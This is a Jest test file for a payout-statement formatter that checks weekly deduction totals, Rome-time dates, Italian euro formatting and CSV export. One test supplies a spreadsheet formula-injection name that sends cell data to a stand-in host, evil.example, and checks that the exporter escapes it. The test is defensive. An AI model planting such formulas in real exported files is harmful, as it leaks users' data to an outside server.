import { describe, expect, it } from '@jest/globals';
import type { StatementDetail } from '@aura/contracts';
import { formatEuroCents } from '../../../lib/format';
import {
  formatRomeDay,
  formatWeekRange,
  statementCsv,
  statementDeductionsCents,
  statementNetCents,
} from './payout-format';

describe('the weekly table', () => {
  it('its columns (sessions, messages, photos, tips, less refunds and holds) add up to the share shown', () => {
    const sources = { session: 990, message: 110, photo: 220, tip: 330 };
    const statement = { shareCents: 1650, clawedBackCents: 110, heldCents: 55 };
    expect(statementDeductionsCents(statement)).toBe(165);
    expect(statementNetCents(statement)).toBe(1485);
    const columns = [...Object.values(sources), -statementDeductionsCents(statement)];
    expect(columns.reduce((sum, cents) => sum + cents, 0)).toBe(statementNetCents(statement));
  });
});

describe('payout formatting (it-IT, Europe/Rome)', () => {
  it('names payout days in Rome whatever the browser zone', () => {
    expect(formatRomeDay('2026-11-23T23:00:00.000Z')).toBe('martedì 24 novembre 2026');
  });

  it('names weeks from Monday to Sunday', () => {
    expect(formatWeekRange('2026-11-16')).toBe('16–22 novembre 2026');
    expect(formatWeekRange('2026-11-30')).toBe('30 novembre – 6 dicembre 2026');
    expect(formatWeekRange('2026-12-28')).toBe('28 dicembre 2026 – 3 gennaio 2027');
  });

  it('writes euro the Italian way', () => {
    expect(formatEuroCents(2750)).toBe('27,50\u00a0€');
    expect(formatEuroCents(123456)).toBe('1.234,56\u00a0€');
  });

  it('exports a statement as an Italian CSV', () => {
    const empty = { count: 0, grossUnits: 0, purchasedUnits: 0, shareCents: 0 };
    const statement: StatementDetail = {
      performerId: '2b7c4d1e-8f7a-4e63-9a51-5a4c1b2d3e4f',
      performerName: 'Giulia; "la romana"',
      weekStart: '2026-11-16',
      periodEnd: '2026-11-22T22:59:59.999Z',
      payoutDate: '2026-11-23T23:00:00.000Z',
      sources: {
        session: empty,
        message: { count: 1, grossUnits: 1000, purchasedUnits: 0, shareCents: 0 },
        photo: { count: 1, grossUnits: 5000, purchasedUnits: 5000, shareCents: 2750 },
        tip: empty,
        ticket: empty,
      },
      grossUnits: 6000,
      purchasedUnits: 5000,
      promotionalUnits: 1000,
      sharePercent: 55,
      shareCents: 2750,
      clawedBackCents: 0,
      heldCents: 0,
      paidCents: 0,
      scheduledCents: 0,
      unpaidCents: 2750,
      carriedOverCents: 2750,
      carryReason: 'below_minimum',
      status: 'carried_over',
      payoutIds: [],
      lines: [
        {
          creditedAt: '2026-11-18T10:00:00.000Z',
          source: 'photo',
          grossUnits: 5000,
          purchasedUnits: 5000,
          shareCents: 2750,
        },
        {
          creditedAt: '2026-11-18T11:00:00.000Z',
          source: 'message',
          grossUnits: 1000,
          purchasedUnits: 0,
          shareCents: 0,
        },
      ],
      payouts: [],
    };
    const lines = statementCsv(statement).replace('\uFEFF', '').split('\r\n');
    expect(lines[0]).toBe('Estratto conto settimanale;"Giulia; ""la romana"""');
    expect(lines[1]).toBe('Settimana;16–22 novembre 2026');
    expect(lines[3]).toBe(
      'Data e ora;Fonte;Importo pagato (auracoin);di cui acquistati (auracoin);di cui promozionali (auracoin);Quota performer 55% (€)',
    );
    expect(lines[4]).toBe('18/11/2026, 11:00;Foto;50;50;0;27,50');
    // the welcome coins a message was paid with earn her nothing
    expect(lines[5]).toBe('18/11/2026, 12:00;Messaggi;10;0;10;0,00');
    expect(lines).toContain('Totale foto;1;50;50;0;27,50');
    expect(lines).toContain('Totale settimana;2;60;50;10;27,50');
    expect(lines).toContain('Riportato alla settimana successiva;;;;;27,50');
    expect(lines).toContain('Stato;Riportato alla settimana successiva');
  });

  it('neutralises a name she chose that a spreadsheet would read as a formula', () => {
    const empty = { count: 0, grossUnits: 0, purchasedUnits: 0, shareCents: 0 };
    const statement: StatementDetail = {
      performerId: '2b7c4d1e-8f7a-4e63-9a51-5a4c1b2d3e4f',
      performerName: '=HYPERLINK("http://evil.example/?"&A1;"Giulia")',
      weekStart: '2026-11-16',
      periodEnd: '2026-11-22T22:59:59.999Z',
      payoutDate: '2026-11-23T23:00:00.000Z',
      sources: { session: empty, message: empty, photo: empty, tip: empty, ticket: empty },
      grossUnits: 0,
      purchasedUnits: 0,
      promotionalUnits: 0,
      sharePercent: 55,
      shareCents: 0,
      clawedBackCents: 0,
      heldCents: 0,
      paidCents: 0,
      scheduledCents: 0,
      unpaidCents: 0,
      carriedOverCents: 0,
      carryReason: null,
      status: 'open',
      payoutIds: [],
      lines: [],
      payouts: [],
    };
    const lines = statementCsv(statement).replace('\uFEFF', '').split('\r\n');
    expect(lines[0]).toBe('Estratto conto settimanale;"\'=HYPERLINK(""http://evil.example/?""&A1;""Giulia"")"');
    for (const name of ['+1', '-1+1', '@SUM(A1)', '\t=1'])
      expect(
        statementCsv({ ...statement, performerName: name })
          .replace('\uFEFF', '')
          .split('\r\n')[0],
      ).toBe(`Estratto conto settimanale;'${name}`);
  });
});
